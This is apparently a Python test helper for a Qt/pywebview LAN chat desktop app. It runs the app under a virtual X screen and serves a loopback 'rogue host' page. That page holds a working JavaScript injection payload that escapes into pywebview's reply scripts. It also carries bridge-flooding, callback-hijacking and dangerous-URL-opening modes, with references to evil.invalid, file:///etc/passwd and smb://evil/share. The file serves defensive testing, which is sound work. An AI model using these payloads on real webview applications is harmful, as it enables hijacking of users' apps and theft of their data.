"""Running the real desktop app (``python -m desktop``) as a subprocess, and looking inside it.

Each app runs in its own process (Qt cannot start twice in one) with its own config, log and data
folders, discovery off, and Qt WebEngine's DevTools endpoint on a free loopback port, which is how
the test looks into the page (tests/window_driver.py). Whatever a test starts is stopped by PID in
its teardown.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

from tests.conftest import ROOT, stop_process, wait_until
from tests.window_driver import DEVTOOLS_ENV, AppWindow, need_window_tools

EXPECTED_API = {"get_prefs", "set_prefs", "host_room", "set_unread", "notify", "open_external",
                "lobby_url", "hosting_state", "stop_hosting", "take_refusal", "stand_by_with"}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def listening_addresses(port: int) -> set[str]:
    """IPv4 addresses with a socket listening on ``port`` (from /proc/net/tcp; Linux only)."""
    found: set[str] = set()
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        local, state = fields[1], fields[3]
        addr_hex, port_hex = local.split(":")
        if state == "0A" and int(port_hex, 16) == port:  # 0A = LISTEN
            raw = bytes.fromhex(addr_hex)[::-1]
            found.add(socket.inet_ntoa(raw))
    return found


def port_is_free(port: int) -> bool:
    """Nothing listens on ``port``: a new server could bind every interface there."""
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind(("0.0.0.0", port))
        except OSError:
            return False
    return True


class Xvfb:
    """A virtual X screen of our own, 1280x800, for windows and screenshots."""

    def __init__(self, binary: str) -> None:
        read_fd, write_fd = os.pipe()
        self.proc = subprocess.Popen(
            [binary, "-displayfd", str(write_fd), "-screen", "0", "1280x800x24", "-nolisten",
             "tcp", "-noreset"], pass_fds=(write_fd,), stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL)
        os.close(write_fd)
        with os.fdopen(read_fd) as f:
            number = f.readline().strip()
        if not number:
            self.stop()
            raise RuntimeError("Xvfb did not report a display number")
        self.display = f":{number}"

    def screenshot(self, path: Path) -> Path:
        subprocess.run(["/usr/bin/import", "-display", self.display, "-window", "root",
                        str(path)], check=True, timeout=30)
        return path

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(5)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(5)


def app_env(home: Path, display: str | None, devtools_port: int | None) -> dict[str, str]:
    """An environment with the app's folders under ``home`` and the chosen display, if any;
    with ``devtools_port``, Qt WebEngine's DevTools endpoint on that loopback port (the way a
    test looks into the page: tests/window_driver.py)."""
    env = {k: v for k, v in os.environ.items()
           if k not in ("DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM", DEVTOOLS_ENV)}
    env.update({"XDG_CONFIG_HOME": str(home / "config"), "XDG_STATE_HOME": str(home / "state"),
                "XDG_DATA_HOME": str(home / "data"), "XDG_CACHE_HOME": str(home / "cache"),
                "PYTHONUNBUFFERED": "1"})
    if display is not None:
        env["DISPLAY"] = display
    if devtools_port is not None:
        env[DEVTOOLS_ENV] = f"127.0.0.1:{devtools_port}"
    return env


class DesktopApp(AppWindow):
    """``python -m desktop`` in a subprocess, with ``eval``/``state``/``close`` from outside
    (tests/window_driver.AppWindow: DevTools, the X server, the log, the app's server)."""

    def __init__(self, home: Path, display: str, *args: str,
                 env: dict[str, str] | None = None, discovery: bool = False) -> None:
        need_window_tools()
        self.home = home
        devtools_port = free_port()
        app_port = free_port()
        self.stdout_path = home / "stdout.txt"
        self.stderr_path = home / "stderr.txt"
        home.mkdir(parents=True, exist_ok=True)
        # Discovery, when asked for, stays on loopback: no mDNS leaves the machine.
        browse = ["--set", "discovery_interfaces=127.0.0.1"] if discovery else ["--no-discovery"]
        cmd = [sys.executable, "-m", "desktop", *browse, "--port", str(app_port),
               "--data-dir", str(home / "chat-data"), *args]
        started_at = time.monotonic()
        with open(self.stdout_path, "wb") as out, open(self.stderr_path, "wb") as err:
            proc = subprocess.Popen(cmd, cwd=ROOT, env={**app_env(home, display, devtools_port),
                                                        **(env or {})},
                                    stdout=out, stderr=err, start_new_session=True)
        super().__init__(proc, display, devtools_port, app_port,
                         home / "state" / "LANChat" / "log" / "lanchat.log", started_at)

    def output(self) -> str:
        return (self.stdout_path.read_text(errors="replace") + "\n"
                + self.stderr_path.read_text(errors="replace"))

    def stop(self) -> None:
        """Teardown: stop the process we started (by its PID) if it is still running."""
        self.stop_driving()
        stop_process(self.proc)


def js_string(value: str) -> str:
    return json.dumps(value)


def _xdotool(display: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["xdotool", *args], env={**os.environ, "DISPLAY": display},
                          capture_output=True, text=True, timeout=15)


def visible_windows(display: str, name: str) -> list[str]:
    """X window ids of visible windows whose title contains ``name``."""
    return _xdotool(display, "search", "--onlyvisible", "--name", name).stdout.split()


def window_position(display: str, window_id: str) -> str:
    return _xdotool(display, "getwindowgeometry", window_id).stdout.split("\n")[1].strip()


def question_windows(display: str, title: str = "host a room") -> list[str]:
    """X window ids of the app's "host a room?" question (or another) now on the screen."""
    return _xdotool(display, "search", "--onlyvisible", "--name", title).stdout.split()


def answer_question(app: DesktopApp, title: str, key: str, timeout: float = 20) -> None:
    """Press ``key`` in the app's native question titled ``title``, through the X server."""
    import shutil

    from tests.conftest import need_tool
    need_tool(shutil.which("xdotool"), "xdotool")
    assert app.display is not None
    found = wait_until(lambda: question_windows(str(app.display), title), timeout=timeout,
                       what=f"the question {title!r} to appear")
    _xdotool(app.display, "windowfocus", "--sync", found[0])
    _xdotool(app.display, "key", "--clearmodifiers", key)
    wait_until(lambda: not question_windows(str(app.display), title), timeout=timeout,
               what=f"the question {title!r} to close")


def answer_hosting_question(app: DesktopApp, host: bool, timeout: float = 20) -> None:
    """Answer the native "host a room?" dialog as a person would, with the keyboard (through
    the X server, which no page can reach): Alt+H to host, Escape to decline."""
    import shutil

    from tests.conftest import need_tool
    need_tool(shutil.which("xdotool"), "xdotool")
    assert app.display is not None
    found = wait_until(lambda: question_windows(str(app.display)), timeout=timeout,
                       what="the hosting question to appear")
    _xdotool(app.display, "windowfocus", "--sync", found[0])
    _xdotool(app.display, "key", "--clearmodifiers", "alt+h" if host else "Escape")
    wait_until(lambda: not question_windows(str(app.display)), timeout=timeout,
               what="the hosting question to close")



# A rogue host's page ------------------------------------------------------------------------

# What the page tries to get evaluated: it would mark the page, tell the rogue server, rewrite the
# prefs and host a room. It is put where pywebview embeds the page's value_id (and func_name)
# into the reply script it evaluates.
PAYLOAD = ('try{if(!window.__pwned){window.__pwned=1;'
           'navigator.sendBeacon("/ran?at="+encodeURIComponent(location.href));'
           'localStorage.setItem("pwned",location.href);'
           'window.pywebview.api.set_prefs({name:"Mallory",last_room:"http://evil.invalid/"});'
           'window.pywebview.api.host_room({room:"Pwned",name:"Mallory"});}}catch(e){}')

HOSTILE_PAGE = """<!doctype html><meta charset="utf-8"><title>Rogue room</title>
<h1>Rogue room</h1><p id="status">waiting for the bridge</p>
<script>
const PAYLOAD = %(payload)s;
const MODE = new URLSearchParams(location.search).get('mode');
const COUNT = Number(new URLSearchParams(location.search).get('count') || 2000);
function say(text) {
  document.getElementById('status').textContent = text;
  fetch('/log?' + encodeURIComponent(text));
}
function ready(go) {
  if (window.pywebview && window.pywebview._QWebChannel) go();
  else window.addEventListener('pywebviewready', go, { once: true });
}
async function inject() {
  const lobby = await window.pywebview.api.lobby_url();
  const ch = window.pywebview._QWebChannel.objects.external;
  const evilId = 'x"];' + PAYLOAD + '//';
  const evilName = 'get_prefs"]["x"];' + PAYLOAD + '//';
  // Calls that keep the app busy for a while, so that replies are still due after the
  // window has gone back to the lobby.
  const slow = JSON.stringify([1, 'a '.repeat(300000)]);
  for (let i = 0; i < 20; i++) ch.call('set_unread', slow, evilId);
  for (let i = 0; i < COUNT; i++) {
    ch.call(i %% 2 ? 'get_prefs' : 'lobby_url', '[]', evilId);
    if (i %% 100 === 0) ch.call(evilName, '[]', String(i));
  }
  say('sent ' + COUNT + ' calls; going to ' + lobby);
  location.href = lobby;
}
async function flood() {
  const ch = window.pywebview._QWebChannel.objects.external;
  const started = performance.now();
  let sent = 0;
  while (sent < COUNT && performance.now() - started < 8000) {
    for (let i = 0; i < 500 && sent < COUNT; i++, sent++) {
      ch.call(sent %% 3 ? 'get_prefs' : 'set_unread', sent %% 3 ? '[]' : '[1]', String(sent));
    }
    await new Promise((r) => setTimeout(r, 0));
  }
  say('flooded ' + sent + ' calls in ' + Math.round(performance.now() - started) + ' ms');
}
async function opens() {
  for (let i = 0; i < 20; i++) window.pywebview.api.open_external('http://127.0.0.1:9/api' + i);
  for (let i = 0; i < 20; i++) window.open('http://127.0.0.1:9/popup' + i);
  for (const u of ['file:///etc/passwd', 'smb://evil/share', 'javascript:alert(1)']) {
    window.open(u);
    window.pywebview.api.open_external(u);
  }
  say('opened');
}
async function catchAll() {
  // Any reply evaluated in this page, whatever its name and id, is reported to the server.
  const seen = (v) => navigator.sendBeacon('/caught?' + encodeURIComponent(JSON.stringify(v)));
  const inner = new Proxy({}, { get: () => seen });
  window.pywebview._returnValuesCallbacks = new Proxy({}, { get: () => inner });
  say('catching');
}
async function nuisance() {
  const ch = window.pywebview._QWebChannel.objects.external;
  for (let i = 0; i < 50; i++) window.alert('Your computer needs attention ' + i);
  for (let i = 0; i < 50; i++) {
    ch.call('pywebviewMoveWindow', JSON.stringify([i * 7, i * 5]), 'move');
  }
  say('nuisance');
}
const MODES = { flood, inject, open: opens, catch: catchAll, nuisance };
ready(() => MODES[MODE]().catch((e) => say('error ' + e)));
</script>
"""


class HostilePage:
    """A rogue host on a free loopback port: serves HOSTILE_PAGE and records every request
    (the payload's beacon lands on ``/ran``)."""

    def __init__(self) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        self.requests: list[str] = []
        page = (HOSTILE_PAGE % {"payload": json.dumps(PAYLOAD)}).encode()
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

            def _answer(self) -> None:
                seen.append(self.path)
                body = page if self.path.startswith("/?") or self.path == "/" else b""
                self.send_response(200)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = _answer  # noqa: N815 - the name http.server looks up
            do_POST = _answer  # noqa: N815

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._httpd.daemon_threads = True
        self.port = int(self._httpd.server_address[1])
        self._thread = threading.Thread(target=self._httpd.serve_forever, args=(0.05,),
                                        daemon=True)
        self._thread.start()

    def url(self, mode: str, count: int) -> str:
        return f"http://127.0.0.1:{self.port}/?mode={mode}&count={count}"

    def caught(self) -> list[str]:
        """Replies that were evaluated in the rogue page (mode ``catch``)."""
        return [p for p in list(self.requests) if p.startswith("/caught")]

    def ran(self) -> list[str]:
        """Where the payload ran (each beacon's page address)."""
        return [p for p in list(self.requests) if p.startswith("/ran")]

    def logs(self) -> list[str]:
        from urllib.parse import unquote
        return [unquote(p[5:]) for p in list(self.requests) if p.startswith("/log?")]

    def stop(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()
        self._thread.join(2)
